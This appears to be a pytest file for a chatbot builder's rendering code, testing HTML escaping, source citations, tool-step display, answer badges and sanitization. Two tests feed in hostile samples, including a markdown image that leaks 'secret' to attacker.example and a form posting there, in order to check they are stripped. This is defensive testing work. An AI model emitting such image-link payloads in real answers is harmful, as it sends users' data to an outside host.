"""Escaping and the chat messages built from stored answers."""

from __future__ import annotations

import html

from gptbuilder.history import Message
from gptbuilder.ui.render import (
    answer_content,
    answer_html,
    avatar_text,
    chat_messages,
    esc,
    md_text,
    sources_markdown,
    step_messages,
)
from tests.server.test_sanitize import active_parts


def test_html_is_escaped_for_html_and_markdown():
    assert esc('<script>alert("x")</script>') == "&lt;script&gt;alert(&quot;x&quot;)&lt;/script&gt;"
    assert md_text("<b>*bold*</b>") == "&lt;b&gt;\\*bold\\*&lt;/b&gt;"


def test_avatars_are_emoji_or_the_first_letter():
    assert avatar_text("👟", "Acme") == "👟"
    assert avatar_text("images/logo.png", "acme") == "A"
    assert avatar_text(None, "") == "?"


def test_sources_are_numbered_with_file_place_and_passage():
    text = sources_markdown([
        {"number": 1, "source": "returns.md", "text": "Shoes   can be\nreturned.", "locator": {"headings": ["Returns", "Shoes"]}},
        {"number": 2, "source": "policy.pdf", "text": "<b>30</b> days", "locator": {"page": 3}},
    ])
    assert text == ("\n\n**Sources**\n1. `returns.md` — Returns &gt; Shoes: Shoes can be returned."
                    "\n2. `policy.pdf` — page 3: &lt;b&gt;30&lt;/b&gt; days")


def test_tool_steps_pair_calls_with_results():
    steps = step_messages([
        {"type": "tool_call", "id": "1", "name": "calculator", "arguments": {"expression": "2*3"}},
        {"type": "tool_result", "id": "1", "name": "calculator", "content": "6", "error": False},
        {"type": "tool_call", "id": "2", "name": "fetch_url", "arguments": {}},
        {"type": "tool_result", "id": "2", "name": "fetch_url", "content": "refused", "error": True},
    ])
    assert [s["metadata"]["title"] for s in steps] == ["🔧 calculator", "🔧 fetch_url (failed)"]
    assert '"expression": "2*3"' in steps[0]["content"] and "**Result**\n```\n6\n```" in steps[0]["content"]


def test_errors_and_curated_answers_are_marked():
    assert answer_content("one two", {"error": "model <died>"}) == "one two\n\n⚠️ *The answer stopped: model &lt;died&gt;*"
    assert answer_content("30 days.", {"curated": {"question": "returns?"}}).startswith("✅ *Curated answer*")
    assert answer_content("half", {"stopped": True}).endswith("⏹ *Stopped.*")


def test_shown_messages_map_back_to_stored_answers_for_feedback():
    shown, ids = chat_messages([
        Message(1, "user", "hi"),
        Message(2, "assistant", "answer", {"steps": [{"type": "tool_call", "id": "x", "name": "t", "arguments": {}}]}),
    ])
    assert [m["role"] for m in shown] == ["user", "assistant", "assistant"]
    assert ids == [None, None, 2]


def test_answers_are_html_under_the_widgets_policy():
    exfil = "Done ![chart](https://attacker.example/p.png?leak=secret) <form action=https://attacker.example/f><input></form>"
    shown = answer_html(exfil)
    assert active_parts(shown) == []
    assert "attacker.example/p.png" not in shown and "<form" not in shown and "&lt;form" in shown
    assert answer_html("**bold** [docs](https://example.com)") == (
        '<p><strong>bold</strong> <a href="https://example.com" target="_blank" rel="noopener noreferrer nofollow">docs</a></p>'
    )


def test_answer_html_is_one_line_with_code_newlines_kept():
    shown = answer_html("Steps:\n\n```\na\n\nb\n```\n\n- one\n- two")
    assert "\n" not in shown
    assert "<pre><code>a&#10;&#10;b&#10;</code></pre>" in shown and "<li>two</li>" in shown
    assert html.unescape(shown).count("\n") >= 4


def test_stored_answers_are_shown_as_safe_html_and_user_text_as_written():
    shown, _ = chat_messages([
        Message(1, "user", "show me"),
        Message(2, "assistant", "![x](https://attacker.example/?q=1)<form><button>Go</button></form>", {}),
    ])
    assert shown[0]["content"] == "show me"
    assert active_parts(shown[1]["content"]) == [] and "attacker.example" not in shown[1]["content"]


def test_a_checked_answer_carries_a_badge_saying_what_the_check_changed():
    from gptbuilder.ui.render import answer_content

    checked = {"mode": "verified", "sentences": 2, "claims": 2, "changes": []}
    assert "✔️ *Checked against the sources*" in answer_content("30 days [1].", {"grounding": checked})
    fixed = {**checked, "changes": [{"action": "quoted"}, {"action": "quoted"}, {"action": "dropped"}]}
    assert "not supported by them 2 quoted, 1 dropped" in answer_content("x", {"grounding": fixed})
    assert "📑 *Quoted from the sources*" in answer_content("x", {"grounding": {"mode": "extractive"}})
    assert "Checked" not in answer_content("x", {})
